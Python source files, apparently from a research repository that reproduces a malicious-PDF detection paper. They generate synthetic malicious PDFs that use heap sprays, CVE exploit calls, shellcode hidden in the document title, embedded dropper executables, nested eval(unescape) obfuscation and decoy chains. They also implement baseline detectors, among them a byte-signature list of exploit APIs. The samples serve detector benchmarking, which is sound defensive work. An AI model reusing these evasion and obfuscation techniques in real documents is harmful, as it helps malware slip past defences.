        if spec.ratio_one:
            return self._build_ratio_one(spec)
        rng = random.Random(spec.seed)
        builder = DocumentBuilder()
        builder.add_page("")  # malicious documents have one blank page
        payload = self._payload_for(spec)

        if spec.kind is MaliciousKind.FAILED_CVE:
            code = js.failing_probe_script(spec.cve)
            builder.add_javascript(
                code,
                trigger=spec.trigger,
                chain_depth=spec.chain_depth,
                hex_obfuscate_keyword=spec.hex_keyword,
                encoding_levels=spec.encoding_levels,
                decoy_empty_chain=spec.empty_objects,
            )
        elif spec.kind is MaliciousKind.EXPORT_LAUNCH:
            builder.add_embedded_file(
                "invoice.exe", b"MZ\x90\x00embedded-social-dropper"
            )
            builder.add_javascript(
                js.export_launch_script("invoice.exe"),
                trigger=spec.trigger,
                chain_depth=spec.chain_depth,
                hex_obfuscate_keyword=spec.hex_keyword,
                encoding_levels=spec.encoding_levels,
                decoy_empty_chain=spec.empty_objects,
            )
        elif spec.kind is MaliciousKind.RENDER:
            component = dict(RENDER_CVES)[spec.cve]
            builder.add_render_exploit(spec.cve, component)
            spray = js.spray_script(spec.spray_mb, payload, rng=rng)
            builder.add_javascript(
                spray,
                trigger=spec.trigger,
                chain_depth=spec.chain_depth,
                hex_obfuscate_keyword=spec.hex_keyword,
                encoding_levels=spec.encoding_levels,
                decoy_empty_chain=spec.empty_objects,
            )
        elif spec.kind is MaliciousKind.CRASHER_DETECTED:
            # Two scripts: the first sprays (its context exit records the
            # memory feature), the second attempts a hijack that crashes.
            spray = js.spray_script(
                spec.spray_mb, Payload.bad_jump(), rng=rng, export_chunk_as="__st2"
            )
            builder.add_javascript(spray, trigger="Names", name="init")
            builder.add_javascript(
                js.exploit_call_for(spec.cve, rng).replace("__CHUNK__", "__st2"),
                trigger="OpenAction",
                hex_obfuscate_keyword=spec.hex_keyword,
                encoding_levels=spec.encoding_levels,
                decoy_empty_chain=spec.empty_objects,
            )
        elif spec.kind is MaliciousKind.CRASHER_FN:
            # One clean-looking script that sprays and crashes on hijack:
            # no syscall and no context exit ever happen, so only static
            # features could catch it — and there are none (§V-C2).
            # A single Flate level is normal tooling output, not a feature.
            builder.pad_with_objects(40, payload=b"benign-looking padding")
            spray = js.spray_script(
                spec.spray_mb,
                Payload.bad_jump(),
                rng=rng,
                exploit_call=js.exploit_call_for(spec.cve, rng),
            )
            builder.add_javascript(spray, trigger=spec.trigger, encoding_levels=1)
        elif spec.kind is MaliciousKind.TITLE_SHELLCODE:
            builder.set_info(Title=payload.with_sled(32), Author="registry")
            spray = js.spray_script(
                spec.spray_mb,
                payload,
                rng=rng,
                exploit_call=js.exploit_call_for(spec.cve, rng),
                hide_payload_in_title=True,
            )
            builder.add_javascript(
                spray,
                trigger=spec.trigger,
                chain_depth=spec.chain_depth,
                hex_obfuscate_keyword=spec.hex_keyword,
                encoding_levels=spec.encoding_levels,
                decoy_empty_chain=spec.empty_objects,
            )
        else:  # STANDARD and EGGHUNT
            if spec.kind is MaliciousKind.EGGHUNT:
                builder.add_embedded_file("egg.bin", b"MZ\x90\x00egg-hunt-malware")
            spray = js.spray_script(
                spec.spray_mb,
                payload,
                rng=rng,
                exploit_call=js.exploit_call_for(spec.cve, rng),
            )
            next_scripts = (
                [js.benign_multiscript_part(1)] if spec.sequential_scripts else None
            )
            head_ref = builder.add_javascript(
                spray,
                trigger=spec.trigger,
                chain_depth=spec.chain_depth,
                hex_obfuscate_keyword=spec.hex_keyword,
                encoding_levels=spec.encoding_levels,
                decoy_empty_chain=spec.empty_objects,
                next_scripts=next_scripts,
            )
            if spec.objstm_hidden:
                # Only the head action dict can be hidden (streams are
                # not allowed inside object streams).
                head = builder.document.store[head_ref]
                if not isinstance(head.value, PDFStream):
                    builder.hide_in_object_stream([head_ref])

        if spec.header_obfuscation:
            if rng.random() < 0.5:
                builder.obfuscate_header(displace=rng.randint(16, 512))
            else:
                builder.obfuscate_header(version_text=rng.choice(("9.9", "1.100", "7.5")))
        return builder.to_bytes()

    def _payload_for(self, spec: MaliciousSpec) -> Payload:
        builders = dict(PAYLOAD_BUILDERS)
        if spec.payload_kind == "egg_hunter":
            return Payload.egg_hunter()
        if spec.payload_kind in builders:
            return builders[spec.payload_kind]()
        return Payload.dropper()

    def _build_ratio_one(self, spec: MaliciousSpec) -> bytes:
        """A document where *every* object sits on the JS chain (Fig. 6's
        64 ratio-1.0 samples): a catalog and one action, nothing else."""
        rng = random.Random(spec.seed)
        payload = self._payload_for(spec)
        spray = js.spray_script(
            spec.spray_mb,
            payload,
            rng=rng,
            exploit_call=js.exploit_call_for(spec.cve, rng),
        )
        store = ObjectStore()
        action = PDFDict({PDFName("S"): PDFName("JavaScript")})
        if spec.encoding_levels >= 1:
            from repro.pdf import filters as pdf_filters
            from repro.pdf.objects import PDFRef

            stream = PDFStream()
            stream.set_decoded_data(
                spray.encode("latin-1", "replace"),
                pdf_filters.cascade_names(spec.encoding_levels),
            )
            store.add(IndirectObject(3, 0, stream))
            action[PDFName("JS")] = PDFRef(3, 0)
        else:
            action[PDFName("JS")] = PDFString(spray.encode("latin-1", "replace"))
        action_ref = store.add(IndirectObject(2, 0, action))
        catalog = PDFDict(
            {PDFName("Type"): PDFName("Catalog"), PDFName("OpenAction"): action_ref}
        )
        catalog_ref = store.add(IndirectObject(1, 0, catalog))
        document = PDFDocument(store=store)
        document.trailer[PDFName("Root")] = catalog_ref
        return document.to_bytes()


def heap_spray_dropper(seed: int = 7, spray_mb: int = 160) -> "PDFDocumentBytes":
    """Convenience: one standard heap-spray dropper sample (quickstart)."""
    factory = MaliciousFactory(seed=seed)
    spec = MaliciousSpec(
        index=0,
        seed=seed,
        kind=MaliciousKind.STANDARD,
        cve=CVE.COLLAB_GET_ICON,
        payload_kind="dropper",
        spray_mb=spray_mb,
    )
    return _BytesWrapper(factory.build(spec))


class _BytesWrapper:
    """Tiny helper so quickstart code reads naturally."""

    def __init__(self, data: bytes) -> None:
        self.data = data

    def to_bytes(self) -> bytes:
        return self.data


PDFDocumentBytes = _BytesWrapper
