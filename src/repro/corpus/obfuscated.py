"""Multi-layer obfuscated corpus samples (§II syntax obfuscation).

In-the-wild droppers rarely ship their spray loop in the clear: the
payload script is percent-escaped and re-entered through
``eval(unescape("..."))``, often several layers deep, precisely so
one-shot static extractors give up.  This module generates such
samples — both malicious (spray + CVE under ``layers`` wrappers) and
benign (an innocuous form script under the same wrappers) — to
exercise the abstract-interpretation proof tier, which peels constant
staging layers and must reach the same verdict the runtime does.

Used by ``benchmarks/bench_triage.py`` (the ``obfuscated`` tier) and
the absint test-suite.
"""

from __future__ import annotations

import random
from typing import List, Optional, Tuple

from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload

#: CVEs reachable from JavaScript against the default reader version.
_JS_CVES = (CVE.COLLAB_GET_ICON, CVE.MEDIA_NEW_PLAYER, CVE.PRINT_SEPS)


def pct_escape(code: str) -> str:
    """Percent-escape *every* character (``%XX`` / ``%uXXXX``)."""
    return "".join(
        f"%{ord(ch):02x}" if ord(ch) < 256 else f"%u{ord(ch):04x}"
        for ch in code
    )


def wrap_eval_layers(code: str, layers: int) -> str:
    """``layers`` nested ``eval(unescape("%.."))`` stagings of ``code``."""
    wrapped = code
    for _ in range(max(0, layers)):
        wrapped = f'eval(unescape("{pct_escape(wrapped)}"));'
    return wrapped


def obfuscated_spray_script(
    target_mb: int = 120,
    cve: str = CVE.COLLAB_GET_ICON,
    layers: int = 3,
    rng: Optional[random.Random] = None,
    payload: Optional[Payload] = None,
) -> str:
    """A heap spray + exploit call hidden under ``layers`` stagings."""
    rng = rng if rng is not None else random.Random(0)
    payload = payload if payload is not None else Payload.dropper()
    inner = js.spray_script(
        target_mb,
        payload,
        rng=rng,
        exploit_call=js.exploit_call_for(cve, rng),
    )
    return wrap_eval_layers(inner, layers)


def obfuscated_benign_script(
    layers: int = 3,
    rng: Optional[random.Random] = None,
) -> str:
    """An innocuous form script hidden under the same stagings."""
    rng = rng if rng is not None else random.Random(0)
    return wrap_eval_layers(js.benign_form_script(rng), layers)


def obfuscated_document(script: str, title: str = "report") -> bytes:
    """A one-page PDF firing ``script`` from its OpenAction."""
    builder = DocumentBuilder()
    builder.add_page()
    builder.set_info(Title=title)
    builder.add_javascript(script, trigger="OpenAction")
    return builder.to_bytes()


def obfuscated_corpus(
    n_benign: int,
    n_malicious: int,
    seed: int = 1404,
    layers: int = 3,
) -> List[Tuple[str, bytes]]:
    """``(name, pdf_bytes)`` pairs for the bench ``obfuscated`` tier.

    Malicious samples rotate CVE and spray size deterministically from
    ``seed``; every script sits under ``layers`` staging wrappers.
    """
    rng = random.Random(seed)
    items: List[Tuple[str, bytes]] = []
    for index in range(n_benign):
        script = obfuscated_benign_script(layers, rng)
        items.append(
            (
                f"obf_benign_{index:05d}.pdf",
                obfuscated_document(script, title=f"form {index}"),
            )
        )
    for index in range(n_malicious):
        cve = _JS_CVES[index % len(_JS_CVES)]
        target_mb = 110 + 40 * (index % 4)
        script = obfuscated_spray_script(
            target_mb=target_mb, cve=cve, layers=layers, rng=rng
        )
        items.append(
            (
                f"obf_malicious_{index:05d}.pdf",
                obfuscated_document(script, title=f"invoice {index}"),
            )
        )
    return items
