"""The paper's Figure 2 — "A Synthetic Sample of Malicious PDF".

Reconstructs the exact document the paper uses to illustrate chain
reconstruction and the static features: ten indirect objects, a
triggered chain whose action spells ``/JavaScript`` with a ``#xx``
escape (object 4), the real script hiding its shellcode in the
document title ("this.info.title" — the extraction evasion §II calls
out), and a decoy JavaScript chain terminating in an empty object
(object 9).
"""

from __future__ import annotations

import random

from repro.corpus import js_snippets as js
from repro.pdf.document import PDFDocument
from repro.pdf.objects import (
    IndirectObject,
    ObjectStore,
    PDFArray,
    PDFDict,
    PDFName,
    PDFRef,
    PDFStream,
    PDFString,
)
from repro.reader.exploits import CVE
from repro.reader.payload import Payload


def figure2_sample(spray_mb: int = 150, seed: int = 40) -> bytes:
    """Build the Figure 2 document (a working infection chain)."""
    rng = random.Random(seed)
    payload = Payload.dropper()

    store = ObjectStore()

    def add(num: int, value) -> PDFRef:
        return store.add(IndirectObject(num, 0, value))

    catalog = PDFDict(
        {
            PDFName("Type"): PDFName("Catalog"),
            PDFName("Pages"): PDFRef(2, 0),
            PDFName("OpenAction"): PDFRef(4, 0),
            PDFName("Names"): PDFRef(7, 0),
        }
    )
    add(1, catalog)
    add(
        2,
        PDFDict(
            {
                PDFName("Type"): PDFName("Pages"),
                PDFName("Kids"): PDFArray([PDFRef(3, 0)]),
                PDFName("Count"): 1,
            }
        ),
    )
    add(
        3,
        PDFDict(
            {
                PDFName("Type"): PDFName("Page"),
                PDFName("Parent"): PDFRef(2, 0),
                PDFName("MediaBox"): PDFArray([0, 0, 612, 792]),
            }
        ),
    )
    # Object (4 0): the triggered action, keyword hex-obfuscated —
    # "/JavaScript is encoded as /JavaScr##69pt" in the paper's text.
    action = PDFDict(
        {
            PDFName("S"): PDFName.from_raw("JavaScr#69pt"),
            PDFName.from_raw("#4a#53"): PDFRef(5, 0),  # /JS
        }
    )
    add(4, action)
    # Object (5 0): the real script; the shellcode lives in the title.
    code = js.spray_script(
        spray_mb,
        payload,
        rng=rng,
        exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        hide_payload_in_title=True,
    )
    script_stream = PDFStream()
    script_stream.set_decoded_data(code.encode("latin-1", "replace"), ["FlateDecode"])
    add(5, script_stream)
    # Object (6 0): the decoy chain "ends with an empty object.
    # Actually the real malicious Javascript is embedded in another
    # chain." (paper, Figure 2 discussion)
    add(
        6,
        PDFDict(
            {
                PDFName("S"): PDFName("JavaScript"),
                PDFName("JS"): PDFString(b""),
                PDFName("Next"): PDFRef(9, 0),
            }
        ),
    )
    add(7, PDFDict({PDFName("JavaScript"): PDFRef(8, 0)}))
    add(
        8,
        PDFDict(
            {PDFName("Names"): PDFArray([PDFString(b"decoy"), PDFRef(6, 0)])}
        ),
    )
    add(9, PDFDict())  # the empty terminator
    # Object (10 0): /Info with the shellcode-bearing title.
    title = payload.with_sled(32)
    add(
        10,
        PDFDict(
            {
                PDFName("Title"): PDFString(
                    b"\xfe\xff" + title.encode("utf-16-be")
                ),
                PDFName("Producer"): PDFString(b"Exploit Builder 2.1"),
            }
        ),
    )

    document = PDFDocument(store=store)
    document.trailer[PDFName("Root")] = PDFRef(1, 0)
    document.trailer[PDFName("Info")] = PDFRef(10, 0)
    return document.to_bytes()
