"""Shared feature-extraction helpers for the baseline detectors."""

from __future__ import annotations

from typing import Dict, List, Optional

import numpy as np

from repro.corpus.dataset import Sample
from repro.pdf.document import PDFDocument
from repro.pdf.objects import PDFArray, PDFDict, PDFName, PDFRef, PDFStream, PDFString
from repro.pdf.parser import PDFParseError


def parse_sample(sample: Sample) -> Optional[PDFDocument]:
    try:
        return PDFDocument.from_bytes(sample.data)
    except (PDFParseError, Exception):  # noqa: BLE001 - hostile inputs
        return None


def extract_js_sources(document: PDFDocument) -> List[str]:
    """Static JavaScript extraction the way MDScan/PJScan do it:
    follow /JS entries of recognisable actions.  Code hidden elsewhere
    (e.g. ``this.info.title``) is *not* recovered — that is precisely
    the evasion the paper's instrumentation is immune to."""
    sources: List[str] = []
    for action in document.iter_javascript_actions():
        code = document.get_javascript_code(action)
        if code.strip():
            sources.append(code)
    return sources


def structural_paths(document: PDFDocument, max_depth: int = 6) -> List[str]:
    """Srndic-Laskov structural paths from the trailer downwards."""
    paths: List[str] = []
    seen_refs = set()

    def walk(value: object, prefix: str, depth: int) -> None:
        if depth > max_depth:
            return
        if isinstance(value, PDFRef):
            if (prefix, value) in seen_refs:
                return
            seen_refs.add((prefix, value))
            walk(document.resolve(value), prefix, depth)
            return
        if isinstance(value, PDFStream):
            paths.append(prefix + "/<stream>")
            walk(value.dictionary, prefix, depth)
            return
        if isinstance(value, PDFDict):
            for key, item in value.items():
                name = str(key) if isinstance(key, PDFName) else str(key)
                child = f"{prefix}/{name}"
                paths.append(child)
                walk(item, child, depth + 1)
            return
        if isinstance(value, PDFArray):
            for item in value:
                walk(item, prefix, depth + 1)

    walk(document.trailer.get("Root"), "", 0)
    return paths


def metadata_features(sample: Sample, document: Optional[PDFDocument]) -> np.ndarray:
    """PDFRate-style metadata + structural counts."""
    size = float(len(sample.data))
    if document is None:
        return np.array([size] + [0.0] * 11)
    store = document.store
    n_objects = float(len(store))
    n_streams = 0.0
    total_stream_bytes = 0.0
    n_empty = 0.0
    max_filters = 0.0
    for entry in store:
        value = entry.value
        if isinstance(value, PDFStream):
            n_streams += 1
            total_stream_bytes += len(value.raw_data)
            max_filters = max(max_filters, float(value.encoding_levels))
        elif isinstance(value, PDFDict) and not value:
            n_empty += 1
    js_actions = float(len(list(document.iter_javascript_actions())))
    n_pages = float(document.page_count)
    info = document.info
    title_len = 0.0
    title = info.get("Title")
    resolved_title = document.resolve(title) if title is not None else None
    if isinstance(resolved_title, PDFString):
        title_len = float(len(resolved_title))
    header_at_start = 1.0 if document.header.at_start else 0.0
    avg_stream = total_stream_bytes / n_streams if n_streams else 0.0
    return np.array(
        [
            size,
            n_objects,
            n_streams,
            avg_stream,
            n_empty,
            max_filters,
            js_actions,
            n_pages,
            title_len,
            header_at_start,
            n_objects / (size / 1024.0 + 1.0),
            js_actions / (n_pages + 1.0),
        ]
    )


def js_lexical_histogram(sources: List[str]) -> np.ndarray:
    """PJScan-style lexical token-class histogram over extracted JS."""
    from repro.js.errors import JSSyntaxError
    from repro.js.lexer import TokenType, tokenize

    counts: Dict[str, float] = {
        "number": 0.0,
        "string": 0.0,
        "identifier": 0.0,
        "keyword": 0.0,
        "operator": 0.0,
        "long_string": 0.0,
        "eval_like": 0.0,
        "unescape_like": 0.0,
        "fromcharcode": 0.0,
        "loops": 0.0,
        "plus_assign": 0.0,
        "parse_failed": 0.0,
    }
    total_tokens = 1.0
    for code in sources:
        try:
            tokens = tokenize(code)
        except JSSyntaxError:
            counts["parse_failed"] += 1.0
            continue
        for token in tokens:
            total_tokens += 1.0
            if token.type is TokenType.NUMBER:
                counts["number"] += 1
            elif token.type is TokenType.STRING:
                counts["string"] += 1
                if isinstance(token.value, str) and len(token.value) > 256:
                    counts["long_string"] += 1
            elif token.type is TokenType.IDENTIFIER:
                counts["identifier"] += 1
                lowered = str(token.value).lower()
                if lowered == "eval":
                    counts["eval_like"] += 1
                elif lowered in ("unescape", "escape"):
                    counts["unescape_like"] += 1
                elif lowered == "fromcharcode":
                    counts["fromcharcode"] += 1
            elif token.type is TokenType.KEYWORD:
                counts["keyword"] += 1
                if token.value in ("for", "while", "do"):
                    counts["loops"] += 1
            elif token.type is TokenType.OPERATOR:
                counts["operator"] += 1
                if token.value == "+=":
                    counts["plus_assign"] += 1
    vector = np.array(list(counts.values()), dtype=float)
    return vector / total_tokens
