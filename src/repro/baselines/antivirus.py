"""Signature-based anti-virus baseline (Table I's first row).

Scans *raw* file bytes for known exploit signatures — the cheap
pattern-matching real AV engines apply to mail gateways.  A single
level of stream encoding (which 96 % of the malicious corpus uses,
Table VI) hides every signature, reproducing the paper's point that
"attackers can easily generate variants ... to defeat anti-virus
software".
"""

from __future__ import annotations

from typing import Sequence, Tuple

from repro.baselines.base import BaselineDetector
from repro.corpus.dataset import Sample

DEFAULT_SIGNATURES: Tuple[bytes, ...] = (
    b"Collab.getIcon",
    b"Collab.collectEmailInfo",
    b"media.newPlayer",
    b"util.printf(\"%45000",
    b"%u9090%u9090",
    b"printSeps",
    b".exe\", nLaunch",
)


class SignatureAVDetector(BaselineDetector):
    name = "Signature AV"

    def __init__(self, signatures: Tuple[bytes, ...] = DEFAULT_SIGNATURES) -> None:
        self.signatures = signatures

    def fit(self, samples: Sequence[Sample]) -> "SignatureAVDetector":
        return self  # signatures ship with the engine

    def predict(self, sample: Sample) -> bool:
        return any(signature in sample.data for signature in self.signatures)
