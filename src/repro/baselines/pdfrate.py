"""PDFRate baseline (Smutz & Stavrou [4]).

Metadata + structural count features into a random forest; the most
accurate static method in Table IX (2 % FP / 99 % TP) and our synthetic
corpus reproduces that: structure separates the classes cleanly —
until a mimicry adversary reshapes it (§V-C2, [8]).
"""

from __future__ import annotations

from typing import Sequence

import numpy as np

from repro.baselines.base import BaselineDetector
from repro.baselines.features import metadata_features, parse_sample
from repro.baselines.ml.forest import RandomForestClassifier
from repro.corpus.dataset import Sample


class PDFRateDetector(BaselineDetector):
    name = "PDFRate [4]"

    def __init__(self, n_estimators: int = 20, random_state: int = 0) -> None:
        self.model = RandomForestClassifier(
            n_estimators=n_estimators, random_state=random_state
        )

    def fit(self, samples: Sequence[Sample]) -> "PDFRateDetector":
        X = np.stack(
            [metadata_features(s, parse_sample(s)) for s in samples]
        )
        y = np.array([1.0 if s.malicious else 0.0 for s in samples])
        self.model.fit(X, y)
        return self

    def predict(self, sample: Sample) -> bool:
        vector = metadata_features(sample, parse_sample(sample))
        return bool(self.model.predict(vector[None, :])[0])
