"""Markov n-gram baseline (Shafiq et al. [17], Li et al. [16]).

Trains a byte-transition model on benign documents and flags test
documents whose raw-byte perplexity deviates.  Weak against PDF
malware in practice (Table IX: 31 % FP / 84 % TP) because nearly all
payload bytes hide behind Flate compression, which whitens the byte
stream for benign and malicious files alike.
"""

from __future__ import annotations

from typing import Sequence

import numpy as np

from repro.baselines.base import BaselineDetector
from repro.baselines.ml.markov import MarkovByteModel
from repro.corpus.dataset import Sample


class MarkovNGramDetector(BaselineDetector):
    name = "N-grams [17]"

    def __init__(self, percentile: float = 84.0) -> None:
        #: Anomaly threshold as a percentile of benign training scores.
        self.percentile = percentile
        self.model = MarkovByteModel()
        self.threshold: float = float("inf")

    def fit(self, samples: Sequence[Sample]) -> "MarkovNGramDetector":
        benign = [s for s in samples if not s.malicious]
        if not benign:
            raise ValueError("n-gram baseline needs benign training data")
        self.model.fit(s.data for s in benign)
        scores = np.array([self.model.score(s.data) for s in benign])
        self.threshold = float(np.percentile(scores, self.percentile))
        return self

    def predict(self, sample: Sample) -> bool:
        return self.model.score(sample.data) > self.threshold
