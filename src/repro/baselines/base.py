"""Common protocol + evaluation harness for the baseline detectors."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, List, Sequence

from repro.corpus.dataset import Sample


class BaselineDetector:
    """fit-then-predict detector over raw samples."""

    name = "baseline"

    def fit(self, samples: Sequence[Sample]) -> "BaselineDetector":
        raise NotImplementedError

    def predict(self, sample: Sample) -> bool:
        """True = malicious."""
        raise NotImplementedError


@dataclass
class EvaluationResult:
    """Confusion counts for one detector over one test set."""

    name: str
    true_positives: int = 0
    false_positives: int = 0
    true_negatives: int = 0
    false_negatives: int = 0
    errors: int = 0
    misses: List[str] = field(default_factory=list)

    @property
    def tp_rate(self) -> float:
        positives = self.true_positives + self.false_negatives
        return self.true_positives / positives if positives else 0.0

    @property
    def fp_rate(self) -> float:
        negatives = self.false_positives + self.true_negatives
        return self.false_positives / negatives if negatives else 0.0

    def row(self) -> str:
        return (
            f"{self.name:<24} FP {self.fp_rate * 100:5.1f}%   "
            f"TP {self.tp_rate * 100:5.1f}%"
        )


def evaluate_detector(
    detector: BaselineDetector,
    test_samples: Iterable[Sample],
    keep_misses: int = 8,
) -> EvaluationResult:
    """Score a fitted detector against labelled samples."""
    result = EvaluationResult(name=detector.name)
    for sample in test_samples:
        try:
            flagged = bool(detector.predict(sample))
        except Exception:  # noqa: BLE001 - a crash on hostile input is a miss
            result.errors += 1
            flagged = False
        if sample.malicious and flagged:
            result.true_positives += 1
        elif sample.malicious and not flagged:
            result.false_negatives += 1
            if len(result.misses) < keep_misses:
                result.misses.append(sample.name)
        elif not sample.malicious and flagged:
            result.false_positives += 1
        else:
            result.true_negatives += 1
    return result


def train_test_split(
    samples: Sequence[Sample], train_fraction: float = 0.6
) -> tuple:
    """Deterministic interleaved split (samples are already seeded)."""
    train: List[Sample] = []
    test: List[Sample] = []
    threshold = int(round(train_fraction * 10))
    for index, sample in enumerate(samples):
        (train if index % 10 < threshold else test).append(sample)
    return train, test
