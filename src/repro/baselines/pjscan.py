"""PJScan baseline (Laskov & Srndic [7]).

Statically extracts JavaScript, builds lexical token-class histograms
and trains a one-class SVM on *malicious* vectors; test documents whose
vector falls inside the learned region are flagged.  Documents whose
JavaScript cannot be extracted (hidden outside /JS, or no JS at all)
fall through as benign — a structural blind spot the paper exploits in
its comparison.
"""

from __future__ import annotations

from typing import Sequence

import numpy as np

from repro.baselines.base import BaselineDetector
from repro.baselines.features import extract_js_sources, js_lexical_histogram, parse_sample
from repro.baselines.ml.ocsvm import OneClassSVM
from repro.corpus.dataset import Sample


class PJScanDetector(BaselineDetector):
    name = "PJScan [7]"

    def __init__(self, nu: float = 0.1, random_state: int = 0) -> None:
        self.model = OneClassSVM(nu=nu, random_state=random_state)

    def _vector(self, sample: Sample) -> np.ndarray | None:
        document = parse_sample(sample)
        if document is None:
            return None
        sources = extract_js_sources(document)
        if not sources:
            return None
        return js_lexical_histogram(sources)

    def fit(self, samples: Sequence[Sample]) -> "PJScanDetector":
        vectors = []
        for sample in samples:
            if not sample.malicious:
                continue
            vector = self._vector(sample)
            if vector is not None:
                vectors.append(vector)
        if not vectors:
            raise ValueError("PJScan needs malicious training samples with JS")
        self.model.fit(np.stack(vectors))
        return self

    def predict(self, sample: Sample) -> bool:
        vector = self._vector(sample)
        if vector is None:
            return False  # no extractable JavaScript → passes as benign
        return bool(self.model.predict(vector[None, :])[0])
