"""Structural-path baseline (Srndic & Laskov [5]).

Models a document as its set of structural paths and classifies with a
decision tree over binarised path-presence features (their paper also
reports an SVM variant, selectable here).  Table IX's best FP rate
(0.05 %) — and the method the mimicry attack of [8] defeats.
"""

from __future__ import annotations

from typing import Dict, List, Sequence

import numpy as np

from repro.baselines.base import BaselineDetector
from repro.baselines.features import parse_sample, structural_paths
from repro.baselines.ml.decision_tree import DecisionTreeClassifier
from repro.baselines.ml.svm import LinearSVM
from repro.corpus.dataset import Sample


class StructuralPathDetector(BaselineDetector):
    name = "Structural [5]"

    def __init__(
        self,
        classifier: str = "tree",
        max_paths: int = 400,
        random_state: int = 0,
    ) -> None:
        if classifier not in ("tree", "svm"):
            raise ValueError("classifier must be 'tree' or 'svm'")
        self.classifier_kind = classifier
        self.max_paths = max_paths
        self.random_state = random_state
        self._vocabulary: Dict[str, int] = {}
        self._model = None

    def _vectorize(self, paths: List[str]) -> np.ndarray:
        vector = np.zeros(len(self._vocabulary) + 1)
        for path in paths:
            index = self._vocabulary.get(path)
            if index is not None:
                vector[index] = 1.0
        vector[-1] = float(len(paths))
        return vector

    def fit(self, samples: Sequence[Sample]) -> "StructuralPathDetector":
        per_sample_paths: List[List[str]] = []
        frequency: Dict[str, int] = {}
        for sample in samples:
            document = parse_sample(sample)
            paths = structural_paths(document) if document is not None else []
            unique = sorted(set(paths))
            per_sample_paths.append(unique)
            for path in unique:
                frequency[path] = frequency.get(path, 0) + 1
        ranked = sorted(frequency, key=lambda p: -frequency[p])[: self.max_paths]
        self._vocabulary = {path: index for index, path in enumerate(ranked)}

        X = np.stack([self._vectorize(paths) for paths in per_sample_paths])
        y = np.array([1.0 if s.malicious else 0.0 for s in samples])
        if self.classifier_kind == "tree":
            self._model = DecisionTreeClassifier(random_state=self.random_state)
        else:
            self._model = LinearSVM(random_state=self.random_state)
        self._model.fit(X, y)
        return self

    def predict(self, sample: Sample) -> bool:
        if self._model is None:
            raise RuntimeError("fit() first")
        document = parse_sample(sample)
        paths = sorted(set(structural_paths(document))) if document else []
        vector = self._vectorize(paths)
        return bool(self._model.predict(vector[None, :])[0])
