"""MDScan baseline (Tzermias et al. [9]) — extract-and-emulate.

Statically extracts JavaScript and executes it in an *emulated*
interpreter with stubbed Acrobat objects (their instrumented
SpiderMonkey + Nemu).  Detection fires when shellcode is assembled on
the emulated heap: a NOP sled together with a payload block.

Reproduced blind spots (§II of the paper):

* document-context data is absent in emulation — shellcode referenced
  as ``this.info.title`` never materialises, so the payload check fails;
* no system-level view — droppers that do not spray (e.g.
  ``exportDataObject``) never touch the emulated heap;
* it cannot be deployed on end hosts (noted, not modelled).
"""

from __future__ import annotations

from typing import List, Sequence

from repro.baselines.base import BaselineDetector
from repro.baselines.features import extract_js_sources, parse_sample
from repro.corpus.dataset import Sample
from repro.js.errors import JSError
from repro.js.interpreter import Host, Interpreter
from repro.js.values import JSArray, JSObject, NativeFunction, UNDEFINED
from repro.reader.payload import NOP, parse_payload

#: Emulated-heap thresholds for "shellcode present".
SLED_UNITS_REQUIRED = 16
MAX_EMULATION_STEPS = 4_000_000


class _EmulationHost(Host):
    """Collects candidate shellcode strings from the emulated heap."""


def _stub_environment(interp: Interpreter) -> JSObject:
    """Documented Acrobat objects only, with inert implementations."""

    def noop(i, t, a):  # noqa: ANN001 - native signature
        return UNDEFINED

    app = JSObject(class_name="app")
    app.set("viewerVersion", 9.0)
    for method in ("alert", "beep", "setTimeOut", "setInterval", "launchURL", "mailMsg"):
        app.set(method, NativeFunction(method, noop))
    interp.define_global("app", app)

    util = JSObject(class_name="util")
    for method in ("printf", "printd", "byteToChar"):
        util.set(method, NativeFunction(method, lambda i, t, a: ""))
    interp.define_global("util", util)

    collab = JSObject(class_name="Collab")
    for method in ("collectEmailInfo", "getIcon"):
        collab.set(method, NativeFunction(method, noop))
    interp.define_global("Collab", collab)

    doc = JSObject(class_name="Doc")
    # The emulator has no real document: metadata is empty strings.
    info = JSObject(class_name="Info")
    for key in ("Title", "title", "Author", "author", "Subject", "subject"):
        info.set(key, "")
    doc.set("info", info)
    doc.set("numPages", 1.0)
    media = JSObject()
    media.set("newPlayer", NativeFunction("newPlayer", noop))
    doc.set("media", media)
    for method in ("getAnnots", "syncAnnotScan", "getField", "exportDataObject",
                   "addScript", "setAction", "setPageAction"):
        doc.set(method, NativeFunction(method, lambda i, t, a: JSArray([])))
    # NOTE: undocumented APIs (printSeps, ...) are deliberately absent —
    # emulating them all is what the paper calls "very costly".
    interp.define_global("this", doc)
    interp.global_this = doc
    return doc


class MDScanDetector(BaselineDetector):
    name = "MDScan [9]"

    def fit(self, samples: Sequence[Sample]) -> "MDScanDetector":
        return self  # no training phase: pure dynamic analysis

    def predict(self, sample: Sample) -> bool:
        document = parse_sample(sample)
        if document is None:
            return False
        sources = extract_js_sources(document)
        if not sources:
            return False
        host = _EmulationHost()
        interp = Interpreter(host=host, max_steps=MAX_EMULATION_STEPS)
        _stub_environment(interp)
        for code in sources:
            try:
                interp.run(code, this=interp.global_this)
            except JSError:
                continue  # extraction/emulation mismatch: script dies
        return self._heap_has_shellcode(host.spray_pool)

    @staticmethod
    def _heap_has_shellcode(heap_strings: List[str]) -> bool:
        sled = NOP * SLED_UNITS_REQUIRED
        has_sled = any(sled in text for text in heap_strings)
        if not has_sled:
            return False
        return parse_payload(heap_strings) is not None
