"""Comparison systems from Table IX, rebuilt from their papers' designs.

Every baseline follows a common protocol (:class:`BaselineDetector`):
``fit(samples)`` then ``predict(sample) -> bool`` (True = malicious).
They are intentionally faithful to the *kind* of evidence each method
uses — raw byte n-grams, lexical JS tokens, structural metadata,
structural paths, or emulated execution — so the comparison reproduces
each method's blind spots rather than its exact numbers.
"""

from repro.baselines.base import BaselineDetector, EvaluationResult, evaluate_detector
from repro.baselines.ngram import MarkovNGramDetector
from repro.baselines.pjscan import PJScanDetector
from repro.baselines.pdfrate import PDFRateDetector
from repro.baselines.structural import StructuralPathDetector
from repro.baselines.mdscan import MDScanDetector
from repro.baselines.wepawet import WepawetDetector
from repro.baselines.antivirus import SignatureAVDetector

__all__ = [
    "BaselineDetector",
    "EvaluationResult",
    "MDScanDetector",
    "MarkovNGramDetector",
    "PDFRateDetector",
    "PJScanDetector",
    "SignatureAVDetector",
